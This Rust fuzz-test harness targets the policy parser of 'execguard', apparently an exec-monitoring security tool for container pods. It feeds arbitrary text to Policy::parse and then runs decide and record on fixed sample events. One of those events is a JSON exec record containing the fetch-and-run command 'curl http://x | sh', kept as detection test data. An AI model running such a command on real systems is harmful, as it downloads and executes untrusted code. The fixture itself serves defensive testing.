//! The policy file parser, `Policy::parse`, on arbitrary text.
//!
//! A policy comes from a node's /etc/execguard, a ConfigMap or `execguard policy check`
//! run on a file someone sent: a bad one must be an error that names the line, never a
//! panic that takes down a shim and, with it, every exec of a pod. What parses is then
//! asked to decide a few fixed events, because compiling is only half of the work: the
//! patterns, conditions and the name index that a hostile policy builds are run by
//! `decide` and `record`.
#![no_main]

use std::sync::LazyLock;

use execguard_policy::{ExecEvent, Policy};
use libfuzzer_sys::fuzz_target;

/// The events every policy that parses decides: a plain exec, a shell pipeline with a
/// parent and container, and one with every optional fact filled in.
static EVENTS: LazyLock<Vec<ExecEvent>> = LazyLock::new(|| {
    [
        include_str!("../../tests/data/sample-events.jsonl"),
        r#"{"process":{"executable":"/bin/sh","args":["sh","-c","curl http://x | sh"],"working_directory":"/tmp","pid":7,"interactive":true,"user":{"id":"0"},"parent":{"executable":"/usr/bin/python3","name":"python3","args":["python3","app.py"],"pid":6}},"execguard":{"ancestors":[{"executable":"/sbin/init","args":["init"]}],"file":{"identity":"sha256:00","writable_location":true,"in_image":false,"fileless":true},"args_truncated":true,"scripts":["/tmp/x.sh"],"writable_lineage":"/tmp/x","exec_race":"changed","applet":"wget","loader_lists_only":true}}"#,
    ]
    .iter()
    .flat_map(|text| text.lines())
    .map(|line| serde_json::from_str(line).expect("the harness's own events are exec events"))
    .collect()
});

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else { return };
    let Ok(policy) = Policy::parse(text, "fuzz") else { return };
    for event in EVENTS.iter() {
        let decision = policy.decide(event);
        let _ = policy.record(event, &decision);
    }
});
